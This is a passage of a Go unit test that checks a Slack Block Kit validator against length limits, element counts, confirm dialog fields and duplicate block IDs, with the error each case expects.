		{"button 75", []slack.Block{actions(btn(x("b", 75), "a", "v"))}, ""},
		{"button 76", []slack.Block{actions(btn(x("b", 76), "a", "v"))}, "76 characters"},
		{"button mrkdwn", []slack.Block{actions(slack.NewButtonBlockElement("a", "v", mrkdwn("b")))}, "plain_text"},
		{"action_id 256", []slack.Block{actions(btn("b", x("a", 256), "v"))}, "action_id"},
		{"value 2001", []slack.Block{actions(btn("b", "a", x("v", 2001)))}, "value"},
		{"url 3001", []slack.Block{actions(btn("b", "a", "v").WithURL("https://x/" + x("u", 2991)))}, "url"},
		{"no buttons", []slack.Block{actions()}, "0 elements"},
		{"26 buttons", []slack.Block{actions(func() []slack.BlockElement {
			var els []slack.BlockElement
			for i := range 26 {
				els = append(els, btn("b", fmt.Sprint("a", i), "v"))
			}
			return els
		}()...)}, "26 elements"},
		{"confirm ok", []slack.Block{confirmed("t", "x", "Roll back", "Cancel")}, ""},
		{"confirm title 101", []slack.Block{confirmed(x("t", 101), "x", "ok", "no")}, "confirm title"},
		{"confirm text 301", []slack.Block{confirmed("t", x("x", 301), "ok", "no")}, "confirm text"},
		{"confirm button 31", []slack.Block{confirmed("t", "x", x("o", 31), "no")}, "confirm button"},
		{"deny button 31", []slack.Block{confirmed("t", "x", "ok", x("n", 31))}, "deny button"},
		{"context 10", []slack.Block{context(10)}, ""},
		{"context 11", []slack.Block{context(11)}, "11 elements"},
		{"context empty", []slack.Block{context(0)}, "0 elements"},
		{"context text 3001", []slack.Block{slack.NewContextBlock("", mrkdwn(x("c", 3001)))}, "3001"},
		{"block_id 256", []slack.Block{slack.NewSectionBlock(mrkdwn("s"), nil, nil, slack.SectionBlockOptionBlockID(x("i", 256)))}, "block_id"},
		{"duplicate block_id", []slack.Block{
			slack.NewSectionBlock(mrkdwn("s"), nil, nil, slack.SectionBlockOptionBlockID("same")),
			slack.NewSectionBlock(mrkdwn("s"), nil, nil, slack.SectionBlockOptionBlockID("same")),
		}, "already used"},
		{"bad text type", []slack.Block{slack.NewSectionBlock(&slack.TextBlockObject{Type: "html", Text: "s"}, nil, nil)}, "type"},
		{"unsupported block", []slack.Block{slack.NewImageBlock("https://x/y.png", "alt", "", nil)}, "not supported"},
		{"nil block", []slack.Block{nil}, "nil"},
		{"divider", []slack.Block{slack.NewDividerBlock()}, ""},
	}
	for _, c := range cases {
		err := slackmsg.ValidateBlocks(c.blocks)
		switch {
		case c.err == "" && err != nil:
			t.Errorf("%s: unexpected error %v", c.name, err)
		case c.err != "" && err == nil:
			t.Errorf("%s: accepted, want an error about %q", c.name, c.err)
		case c.err != "" && !strings.Contains(err.Error(), c.err):
			t.Errorf("%s: error %q does not mention %q", c.name, err, c.err)
		}
	}
}
